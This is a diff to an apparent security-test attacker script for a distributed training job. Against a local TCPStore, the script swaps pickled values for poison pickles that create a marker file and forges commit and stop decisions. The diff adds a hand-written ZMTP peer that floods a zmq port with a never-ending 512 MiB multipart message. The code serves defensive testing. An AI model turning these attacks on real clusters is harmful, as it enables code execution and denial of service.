@@ -6,12 +6,14 @@ beside a running job (tests/dist/test_rendezvous_attack.py). It finds the ports 
 torch ``TCPStore`` client can do (list the keys; replace every pickled value it sees with a
 pickle that creates the marker file; forge the step agreement with a Stop order and pre-set
 the commit decisions to abort; write junk; flood 4 MiB values) and what a zmq peer can do
-(a multipart message of 8 MiB frames that never ends), until it is terminated. What worked
-is written to the report (JSON) as it happens.
+(a multipart message of 8 MiB frames that never ends, in hand-written ZMTP), until it is
+terminated. What worked is written to the report (JSON) as it happens.
+``python rendezvous_attacker.py flood <port> <frames>`` sends only that message.
 """
 from __future__ import annotations
 
 import json
+import os
 import pathlib
 import socket
 import sys
@@ -23,6 +25,9 @@ import psutil
 
 FLOOD_VALUES = 64  # x 4 MiB into a store: 256 MiB
 FLOOD_FRAMES = 64  # x 8 MiB of one multipart message that never ends: 512 MiB
+# Seconds before the forgeries (commit decisions, agreement, junk) and the flood start; the
+# pickled values are replaced from the first second (a large value shows that alone).
+FORGE_AFTER_S = float(os.environ.get("ATTACK_FORGE_AFTER_S", "8"))
 
 
 class Marker:
@@ -98,7 +103,7 @@ def attack_store(port: int, job: str, marker: str, report: Report) -> None:
                 store.set(k, poison)
                 done.add(k)
                 report.note(overwritten=k)
-        if not forged and time.monotonic() - t0 > 8:
+        if not forged and time.monotonic() - t0 > FORGE_AFTER_S:
             # forge the next resizes' commit decisions and the coming steps' agreement
             for g in range(1, 6):
                 got = store.compare_set(f"{job}/g{g}/commit", "", "abort")
@@ -121,22 +126,36 @@ def attack_store(port: int, job: str, marker: str, report: Report) -> None:
         time.sleep(0.005)
 
 
-def attack_zmq(port: int, report: Report) -> None:
-    import zmq
+def zmtp_flood(port: int, frames: int, frame_bytes: int = 8 << 20,
+               report: Report | None = None) -> int:
+    """A zmq peer written by hand (ZMTP 3.0, NULL mechanism, as a DEALER): the greeting,
+    READY, then ``frames`` frames of one multipart message, each flagged MORE, so that the
+    message never ends (zmq itself would hold the parts back until the last one). Returns
+    the bytes the peer accepted."""
+    greeting = b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") \
+        + b"\0" + b"\0" * 31
+    prop = b"\x0bSocket-Type" + len(b"DEALER").to_bytes(4, "big") + b"DEALER"
+    ready = b"\x05READY" + prop
+    sent = 0
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
+            s.sendall(greeting)
+            s.sendall(b"\x04" + bytes([len(ready)]) + ready)
+            header = b"\x03" + frame_bytes.to_bytes(8, "big")  # MORE | LONG
+            frame = bytes(frame_bytes)
+            for _ in range(frames):
+                s.sendall(header + frame)
+                sent += len(frame)
+                if report is not None:
+                    report.note(multipart_bytes_sent=len(frame))
+            time.sleep(2)  # hold the message open while the coordinator holds what it got
+    except OSError:
+        pass  # refused: the connection was closed on us
+    return sent
 
-    ctx = zmq.Context()
-    sock = ctx.socket(zmq.DEALER)
-    sock.setsockopt(zmq.LINGER, 0)
-    sock.setsockopt(zmq.SNDHWM, 4)
-    sock.connect(f"tcp://127.0.0.1:{port}")
-    frame = b"\0" * (8 << 20)
-    for _ in range(FLOOD_FRAMES):  # every frame but the last: the message never ends
-        try:
-            sock.send(frame, zmq.SNDMORE | zmq.NOBLOCK)
-        except zmq.Again:
-            time.sleep(0.05)
-            continue
-        report.note(multipart_bytes_sent=len(frame))
+
+def attack_zmq(port: int, report: Report) -> None:
+    zmtp_flood(port, FLOOD_FRAMES, report=report)
 
 
 def attack_raw(port: int, report: Report) -> None:
@@ -148,6 +167,9 @@ def attack_raw(port: int, report: Report) -> None:
 
 
 def main() -> None:
+    if sys.argv[1] == "flood":  # flood <port> <frames>: print the bytes accepted
+        print(zmtp_flood(int(sys.argv[2]), int(sys.argv[3])))
+        return
     pid, job, marker, path = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
     report = Report(path)
     before = set(listening_ports(pid))
